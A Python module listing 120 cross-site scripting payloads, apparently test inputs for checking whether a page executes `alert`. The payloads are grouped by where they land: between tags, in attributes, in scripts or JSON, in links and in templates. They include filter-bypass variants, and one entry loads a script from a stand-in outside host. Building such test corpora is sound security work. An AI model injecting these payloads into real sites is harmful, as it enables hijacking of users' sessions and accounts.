"""
A hundred and twenty texts that run a script where a page forgets to escape one: each calls `alert`, which a test sees.

Each way to run a script is written for each place where a text may stand: between tags, in an attribute, in a script,
in a comment, a title or a style, and in a link.
"""

RUNS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt >",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=9 y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)"//',
    "<image src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'><a href=x>x</a>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction='javascript:alert(1)' autofocus onfocus=alert(1)>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import 'javascript:alert(1)';</style><style onload=alert(1)></style>",
)
"""What runs where it stands between tags."""

BREAKS = ("", "\"'>", "</textarea></title></style></script><!-- --!>")
"""What leads there from between tags; from an attribute; from a script, a style, a title, a comment."""

ATTRIBUTES = (
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    " onmouseover=alert(1) autofocus onfocus=alert(1) tabindex=1 ",
    "` onmouseover=alert(1) autofocus onfocus=alert(1) x=`",
    '" style="animation-name:x" onanimationstart="alert(1)',
    '" hx-on:load="alert(1)" hx-trigger="load" x="',
)
"""What runs where it stands in an attribute."""

SCRIPTS = (
    "'-alert(1)-'",
    '"-alert(1)-"',
    "\\'-alert(1)//",
    "`${alert(1)}`",
    "</script><script>alert(1)</script>",
    "'});alert(1);//",
    "\u2028alert(1)\u2029",
    '{"x":"</script><svg onload=alert(1)>"}',
)
"""What runs where it stands in a script or in JSON of a page."""

LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "javascript://x.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:alert(1)",
    "//elsewhere.invalid/x.js",
)
"""What runs, or leads elsewhere, where it stands in a link."""

TEMPLATES = (
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "{{7*7}}{% raw %}<script>alert(1)</script>{% endraw %}",
    "[[${alert(1)}]]",
    "<template><script>alert(1)</script></template>",
)
"""What runs where it is taken for a template."""

PAYLOADS = (*(breaks + runs for breaks in BREAKS for runs in RUNS), *ATTRIBUTES, *SCRIPTS, *LINKS, *TEMPLATES)
